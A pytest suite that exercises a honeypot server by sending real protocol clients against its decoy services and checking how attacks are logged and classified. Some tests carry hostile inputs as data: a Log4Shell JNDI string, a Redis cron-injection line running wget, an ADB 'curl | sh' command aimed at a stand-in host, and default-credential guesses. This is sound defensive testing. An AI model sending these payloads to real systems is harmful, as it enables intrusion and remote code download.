"""The decoy with real clients: curl, redis-cli, ssh, and those of Python's library."""

import ftplib
import http.client
import imaplib
import json
import poplib
import shutil
import smtplib
import socket
import struct
import subprocess

import pytest

from conftest import until
from listening import accepts, books, free_port, stored

SERVICES = ["ssh", "telnet", "ftp", "smtp", "pop3", "imap", "http", "redis", "mysql", "vnc", "docker", "adb"]


class Decoy:
    """A server with a decoy; ports by service."""

    def __init__(self, serve, petrel, folder, services, extra=""):
        self.petrel, self.data = petrel, folder / "data"
        # All at once, so that no port is given twice.
        probes = {name: socket.socket(socket.AF_INET, socket.SOCK_DGRAM if name == "sip" else socket.SOCK_STREAM) for name in services}
        for probe in probes.values():
            probe.bind(("127.0.0.1", 0))
        self.ports = {name: probe.getsockname()[1] for name, probe in probes.items()}
        for probe in probes.values():
            probe.close()
        config = folder / "petrel.yaml"
        names = ", ".join(f'"{name}:{port}"' for name, port in self.ports.items())
        config.write_text(f"sources: [{{type: decoy, name: decoy, sensor: decoy-1, services: [{names}]{extra}}}]\n")
        self.server = serve("--config", config, data=self.data)
        for name, port in self.ports.items():
            if name != "sip":
                until(lambda: accepts(port), what=name)

    def events(self, service, count=1):
        """Stops the server and gives the events of a service, without the contacts by which the test saw that it listens."""
        def enough():
            return books(self.server, "decoy")["stored"] >= count + (len(self.ports) - ("sip" in self.ports))
        until(enough, what=f"{count} events of {service}")
        self.server.stop()
        events = [event for event in self.petrel.stored(self.data) if event["labels"]["service"] == service]
        assert {event["observer"]["name"] for event in events} == {"decoy-1"}
        assert {event["event"]["dataset"] for event in events} == {"decoy"}
        assert {event["source"]["ip"] for event in events} == {"127.0.0.1"}
        return [event for event in events if event["event"]["action"] != "contact" or "payload" in event]


@pytest.fixture
def decoy(serve, petrel, tmp_path):
    return lambda *services, extra="": Decoy(serve, petrel, tmp_path, services, extra)


def logins(events):
    assert all(event["attack"] == {"type": "bruteforce", "severity": "medium"} for event in events)
    assert all(event["threat"]["technique"]["id"] == "T1110" for event in events)
    return [(event["user"].get("name"), event["user"].get("password")) for event in events]


def test_curl(decoy):
    made = decoy("http")
    url = f"http://127.0.0.1:{made.ports['http']}"

    def curl(*arguments):
        return subprocess.run(["curl", "-s", "-o", "/dev/null", "-w", "%{http_code}", *arguments], capture_output=True, timeout=60, check=True).stdout

    assert curl(f"{url}/") == b"200"
    assert curl(f"{url}/.env") == b"404"
    assert curl("-u", "admin:letmein", f"{url}/manager/html") == b"401"
    assert curl("-A", "${jndi:ldap://192.0.2.1/a}", "-d", "cmd=id", f"{url}/cgi-bin/luci/;stok=/locale") == b"404"
    assert curl("-I", "--http1.0", f"{url}/") == b"200"
    events = made.events("http", 5)
    assert [event["url"]["original"] for event in events] == ["/", "/.env", "/manager/html", "/cgi-bin/luci/;stok=/locale", "/"]
    assert [event["attack"]["type"] for event in events] == ["recon", "scan", "bruteforce", "exploit", "recon"]
    assert events[2]["user"] == {"name": "admin", "password": "letmein"}
    assert events[3]["http"]["request"]["body"]["content"] == "cmd=id" and events[3]["user_agent"]["original"].startswith("${jndi")
    assert events[0]["network"] == {"transport": "tcp", "protocol": "http"}


def test_python_http_keeps_its_connection(decoy):
    made = decoy("docker")
    link = http.client.HTTPConnection("127.0.0.1", made.ports["docker"], timeout=30)
    link.request("GET", "/version")
    assert json.loads(link.getresponse().read())["ApiVersion"] == "1.41"
    link.request("POST", "/v1.41/containers/create", json.dumps({"Image": "alpine"}), {"Content-Type": "application/json"})
    answer = link.getresponse()
    assert answer.status == 201 and json.loads(answer.read())["Id"]
    link.close()
    events = made.events("docker", 2)
    assert [event["attack"]["type"] for event in events] == ["recon", "exploit"]
    assert events[1]["threat"]["technique"]["id"] == "T1610" and "alpine" in events[1]["http"]["request"]["body"]["content"]
    assert len({event["session"]["id"] for event in events}) == 1


def test_redis_cli(decoy):
    made = decoy("redis")

    def redis(*words):
        return subprocess.run(["redis-cli", "-h", "127.0.0.1", "-p", str(made.ports["redis"]), *words], capture_output=True, timeout=60).stdout.decode()

    assert redis("ping") == "PONG\n"
    assert "redis_version" in redis("info")
    assert redis("config", "set", "dir", "/var/spool/cron") == "OK\n"
    assert redis("set", "x", "\n\n* * * * * wget http://192.0.2.1/a\n\n") == "OK\n"
    assert "WRONGPASS" in redis("auth", "foobared")
    events = made.events("redis", 5)
    commands = {event["process"]["command_line"]: event["attack"]["type"] for event in events if "process" in event}
    assert commands["ping"] == "recon" and commands["config set dir /var/spool/cron"] == "exploit"
    assert any("wget" in command and kind == "malware" for command, kind in commands.items())
    assert ("foobared" in [event.get("user", {}).get("password") for event in events])


@pytest.mark.skipif(not shutil.which("ssh"), reason="there is no ssh client")
def test_ssh(decoy):
    made = decoy("ssh")
    done = subprocess.run(["ssh", "-F", "none", "-o", "BatchMode=yes", "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null", "-p", str(made.ports["ssh"]),
                           "root@127.0.0.1", "id"], capture_output=True, timeout=60, stdin=subprocess.DEVNULL)
    assert done.returncode == 255
    event = made.events("ssh")[0]
    assert event["ssh"]["client"]["version"].startswith("SSH-2.0-OpenSSH")
    assert event["attack"]["type"] == "scan" and event["threat"]["technique"]["id"] == "T1046"


def test_ftplib(decoy):
    made = decoy("ftp")
    link = ftplib.FTP()
    assert link.connect("127.0.0.1", made.ports["ftp"], timeout=30).startswith("220")
    for password in ("one", "two"):
        with pytest.raises(ftplib.error_perm, match="530"):
            link.login("anonymous", password)
    link.quit()
    assert logins(made.events("ftp", 2)) == [("anonymous", "one"), ("anonymous", "two")]


def test_smtplib(decoy):
    made = decoy("smtp")
    with smtplib.SMTP("127.0.0.1", made.ports["smtp"], local_hostname="relay.example", timeout=30) as link:
        with pytest.raises(smtplib.SMTPAuthenticationError):
            link.login("info", "s3cret")
        with pytest.raises(smtplib.SMTPSenderRefused):
            link.sendmail("a@example.org", ["b@example.org"], "x")
    events = made.events("smtp", 3)
    # The client tries PLAIN and then LOGIN.
    assert set(logins([event for event in events if "user" in event])) == {("info", "s3cret")}
    mail = [event for event in events if "process" in event]
    assert mail[0]["attack"]["type"] == "spam" and mail[0]["process"]["command_line"].lower().startswith("mail from:<a@example.org>")
    assert events[0]["labels"]["client"] == "relay.example"


def test_poplib(decoy):
    made = decoy("pop3")
    link = poplib.POP3("127.0.0.1", made.ports["pop3"], timeout=30)
    assert "USER" in link.capa()
    link.user("bob")
    with pytest.raises(poplib.error_proto):
        link.pass_("hunter2")
    link.quit()
    assert logins(made.events("pop3")) == [("bob", "hunter2")]


def test_imaplib(decoy):
    made = decoy("imap")
    link = imaplib.IMAP4("127.0.0.1", made.ports["imap"], timeout=30)
    with pytest.raises(imaplib.IMAP4.error):
        link.login("bob smith", 'pa"ss')
    with pytest.raises(imaplib.IMAP4.error):
        link.authenticate("PLAIN", lambda _: b"\0eve\0x")
    link.logout()
    assert logins(made.events("imap", 2)) == [("bob smith", 'pa"ss'), ("eve", "x")]


def heard(link, text):
    """Reads until a text comes."""
    got = b""
    while text not in got:
        more = link.recv(4096)
        assert more, got
        got += more
    return got


def test_telnet(decoy):
    made = decoy("telnet")
    with socket.create_connection(("127.0.0.1", made.ports["telnet"]), timeout=30) as link:
        heard(link, b"login: ")
        link.sendall(b"\xff\xfd\x01\xff\xfd\x03root\r\n")
        heard(link, b"Password: ")
        link.sendall(b"xc3511\r\n")
        heard(link, b"Login incorrect")
    assert logins(made.events("telnet")) == [("root", "xc3511")]


def test_mysql_and_vnc_and_adb(decoy):
    made = decoy("mysql", "vnc", "adb")
    with socket.create_connection(("127.0.0.1", made.ports["mysql"]), timeout=30) as link:
        assert b"mysql_native_password" in heard(link, b"mysql_native_password")
        body = struct.pack("<IIB23x", 0xFA68D, 1 << 24, 45) + b"root\0" + b"\x14" + bytes(range(20)) + b"mysql_native_password\0"
        link.sendall(struct.pack("<I", len(body) | 1 << 24) + body)
        assert b"Access denied for user 'root'" in heard(link, b"denied for user 'root'")
    with socket.create_connection(("127.0.0.1", made.ports["vnc"]), timeout=30) as link:
        assert heard(link, b"\n") == b"RFB 003.008\n"
        link.sendall(b"RFB 003.008\n")
        assert heard(link, b"\x02") == b"\x01\x02"
        link.sendall(b"\x02")
        challenge = link.recv(16)
        link.sendall(bytes(16))
        heard(link, b"failed")
    with socket.create_connection(("127.0.0.1", made.ports["adb"]), timeout=30) as link:
        def message(name, first, data):
            command = struct.unpack("<I", name)[0]
            return struct.pack("<6I", command, first, 0, len(data), sum(data), command ^ 0xFFFFFFFF) + data
        link.sendall(message(b"CNXN", 0x01000000, b"host::\0"))
        heard(link, b"device::")
        link.sendall(message(b"OPEN", 1, b"shell:cd /data/local/tmp; curl http://192.0.2.1/x | sh\0"))
        heard(link, b"CLSE")
    until(lambda: books(made.server, "decoy")["stored"] >= 6, what="all conversations")
    made.server.stop()
    events = {event["labels"]["service"]: event for event in made.petrel.stored(made.data) if event["event"]["action"] != "contact"}
    assert events["mysql"]["user"]["name"] == "root" and events["mysql"]["labels"]["proof"] == bytes(range(20)).hex()
    assert events["vnc"]["labels"]["proof"] == f"{challenge.hex()}:{bytes(16).hex()}"
    assert events["adb"]["attack"]["type"] == "malware" and "curl" in events["adb"]["process"]["command_line"]


def test_sip_answers_are_no_longer_than_requests(decoy):
    made = decoy("sip")
    port = made.ports["sip"]
    request = (b"OPTIONS sip:100@127.0.0.1 SIP/2.0\r\nVia: SIP/2.0/UDP 127.0.0.1:5060;branch=z9hG4bK1\r\nFrom: <sip:100@127.0.0.1>;tag=1\r\n"
               b"To: <sip:100@127.0.0.1>\r\nCall-ID: 1\r\nCSeq: 1 OPTIONS\r\nUser-Agent: friendly-scanner\r\nMax-Forwards: 70\r\n\r\n")
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as link:
        link.settimeout(30)

        def asked():
            # The listener may not be there yet.
            try:
                link.connect(("127.0.0.1", port))
                link.send(request)
                return link.recv(65536)
            except ConnectionError:
                return None

        answer = until(asked, what="an answer")
        assert answer.startswith(b"SIP/2.0 200 OK\r\n") and len(answer) <= len(request)
        answers = 1
        link.settimeout(1)
        for _ in range(40):
            link.send(request)
            try:
                link.recv(65536)
                answers += 1
            except TimeoutError:
                break
        # Ten a minute; a minute may begin meanwhile.
        assert answers <= 20
    events = made.events("sip")
    assert events[0]["user_agent"]["original"] == "friendly-scanner" and events[0]["network"] == {"transport": "udp", "protocol": "sip"}


def test_every_service_bears_nonsense_and_goes_on(decoy):
    made = decoy(*SERVICES, extra=", max_bytes: 2KiB, max_time: 5s, idle_timeout: 500ms")
    nonsense = [b"\x00" * 64, b"\xff" * 3000, bytes(range(256)) * 20, b"\r\n" * 500, b"A" * 100_000]
    for name, port in made.ports.items():
        for bytes_sent in nonsense:
            with socket.create_connection(("127.0.0.1", port), timeout=30) as link:
                try:
                    link.sendall(bytes_sent)
                    while link.recv(65536):
                        pass
                except ConnectionError:
                    pass
    count = len(made.ports) * (len(nonsense) + 1)
    until(lambda: books(made.server, "decoy")["received"] >= count, what="every conversation")
    assert all(accepts(port) for port in made.ports.values())
    ledger = books(made.server, "decoy")
    assert ledger["dead_lettered"] == 0 and ledger["stored"] == ledger["received"]


def test_nobody_else_is_met_without_being_asked_for(petrel, tmp_path):
    config = tmp_path / "petrel.yaml"
    for rest, wrong in [
        ('listen: 0.0.0.0, services: ["ssh:2222"]', "allow"), ('services: ["gopher:70"]', "there is no service gopher"),
        ('services: ["ssh:2222", "ftp:2222"]', "twice"), ("services: []", "names none"), ('services: ["ssh"]', "ssh:2222"),
        ('listen: 0.0.0.0, allow: [any], services: ["ssh:2222"]', None), ('services: ["sip:2222", "ssh:2222"]', None),
    ]:
        config.write_text(f"sources: [{{type: decoy, name: decoy, {rest}}}]\n")
        done = petrel("check-config", config)
        text = (done.stdout + done.stderr).decode()
        assert (done.returncode == 0) == (wrong is None), (rest, text)
        assert wrong is None or wrong in text, text
